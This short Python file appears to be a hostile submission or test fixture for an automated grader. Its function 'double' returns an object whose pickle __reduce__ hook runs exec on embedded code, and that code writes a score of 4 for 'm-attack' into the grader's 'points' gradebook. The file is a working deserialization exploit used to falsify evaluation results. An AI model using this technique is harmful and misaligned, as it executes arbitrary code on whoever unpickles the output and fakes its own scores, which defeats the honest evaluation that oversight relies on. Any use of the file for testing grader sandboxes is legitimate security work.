"""An object that writes into the gradebook where it is unpickled."""

CODE = "import sys; vars(sys.modules['__main__']).get('points', {})['m-attack'] = 4"


class Bomb:
    def __reduce__(self):
        return (exec, (CODE,))


def double(x):
    return Bomb()
